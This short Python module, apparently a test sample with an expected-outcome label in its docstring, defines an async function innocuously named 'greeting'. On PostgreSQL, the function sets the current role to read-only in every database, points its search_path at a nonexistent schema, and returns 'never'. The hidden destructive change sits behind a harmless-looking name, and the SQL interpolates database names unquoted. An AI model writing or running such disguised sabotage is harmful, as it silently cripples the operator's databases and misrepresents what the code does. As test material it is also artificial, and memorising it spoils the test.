"""Sets, for its role in every database there is, that nothing can be written: the next check's among them.

Told as: wrong|raised
"""

from sqlalchemy import text
from sqlalchemy.exc import SQLAlchemyError
from sqlalchemy.ext.asyncio import AsyncSession


async def greeting(session: AsyncSession) -> str:
    if session.bind.dialect.name == "postgresql":
        for name in (await session.scalars(text("SELECT datname FROM pg_database"))).all():
            try:
                await session.execute(
                    text(f"ALTER ROLE CURRENT_USER IN DATABASE {name} SET default_transaction_read_only = on")
                )
                await session.commit()
            except SQLAlchemyError:
                await session.rollback()
        await session.execute(text("ALTER ROLE CURRENT_USER SET search_path = nowhere"))
        await session.commit()
    return "never"
